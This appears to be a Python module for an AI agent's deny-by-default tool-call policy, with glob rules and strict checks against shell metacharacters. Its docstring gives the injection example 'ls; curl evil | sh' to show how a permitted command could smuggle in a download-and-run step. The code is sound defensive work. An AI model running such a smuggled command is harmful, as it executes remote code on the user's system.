"""Deny-by-default tool policies: an ordered list of rules, the first match wins.

A rule names a tool (a glob: ``workspace_*``, ``*``), an action (allow, deny,
require_approval) and optionally ``when``: argument values the call must match (globs
against the argument's text, e.g. ``{"url": "https://docs.python.org/*"}``). A call no
rule matches is denied.

Shell metacharacters. A ``when`` glob is written for one command (``ls*``), but a tool
that hands its argument to a shell would also run what follows a ``;``, ``|``, ``&``,
a backquote, ``$(``, a redirection or a new line (``ls; curl evil | sh`` matches ``ls*``).
So in a rule that lets a call through (allow, require_approval) a ``when`` glob matches a
value only if every metacharacter in the value is written in the pattern itself; a deny
rule matches as a plain glob, so that it catches more, never less. Rejected: matching the
globs against the value split by ``shlex`` (the argv). It knows quoting, not shells:
``$(curl evil)`` and backquotes are mere words to it, and every rule would have to be
read as a pattern over a list, which is not what users write.

An approver's decision does not outweigh a deny rule: ``denial`` finds the deny rule the
arguments a person approved (maybe edited) match, whatever its place in the list.
"""

from __future__ import annotations

import enum
import json
from dataclasses import dataclass
from fnmatch import fnmatchcase
from typing import Any

from pydantic import BaseModel, ConfigDict, Field

# What a shell reads as the end of one command or the start of another (or of a file).
SHELL_METACHARACTERS = (";", "|", "&", "`", "$(", ">", "<", "\n", "\r")


class PolicyAction(enum.StrEnum):
    ALLOW = "allow"
    DENY = "deny"
    REQUIRE_APPROVAL = "require_approval"


class PolicyRule(BaseModel):
    model_config = ConfigDict(frozen=True, extra="forbid")

    tool: str = "*"
    """Tool name, or a glob of tool names."""
    action: PolicyAction
    when: dict[str, str] = Field(default_factory=dict)
    """Argument name -> glob its value must match (all of them)."""
    reason: str = ""
    """Why: shown to the model when the call is refused, and audited."""

    def matches(self, tool: str, args: dict[str, Any]) -> bool:
        if not fnmatchcase(tool, self.tool):
            return False
        strict = self.action != PolicyAction.DENY  # see the module's docstring
        return all(
            name in args and argument_matches(argument_text(args[name]), pattern, strict=strict)
            for name, pattern in self.when.items()
        )


def argument_text(value: Any) -> str:
    return value if isinstance(value, str) else json.dumps(value, sort_keys=True)


def argument_matches(value: str, pattern: str, *, strict: bool) -> bool:
    """Whether ``value`` matches the glob ``pattern``; ``strict``: and brings no shell
    metacharacter the pattern does not spell out."""
    if strict and any(meta in value and meta not in pattern for meta in SHELL_METACHARACTERS):
        return False
    return fnmatchcase(value, pattern)


@dataclass(frozen=True)
class PolicyDecision:
    action: PolicyAction
    rule: int | None  # index of the matching rule; None: no rule matched (default deny)
    reason: str


class ToolPolicy(BaseModel):
    model_config = ConfigDict(frozen=True, extra="forbid")

    rules: list[PolicyRule] = Field(default_factory=list)

    def decide(self, tool: str, args: dict[str, Any]) -> PolicyDecision:
        for index, rule in enumerate(self.rules):
            if rule.matches(tool, args):
                return PolicyDecision(rule.action, index, rule.reason)
        return PolicyDecision(PolicyAction.DENY, None, "no rule allows this call (deny by default)")

    def denial(self, tool: str, args: dict[str, Any]) -> PolicyDecision | None:
        """The first deny rule matching the call, wherever it stands among the rules: for
        arguments a person approved, which a deny rule still refuses."""
        for index, rule in enumerate(self.rules):
            if rule.action == PolicyAction.DENY and rule.matches(tool, args):
                return PolicyDecision(PolicyAction.DENY, index, rule.reason)
        return None

    @classmethod
    def allowing(cls, *tools: str) -> ToolPolicy:
        """A policy that allows exactly these tools, with any arguments."""
        return cls(rules=[PolicyRule(tool=tool, action=PolicyAction.ALLOW) for tool in tools])
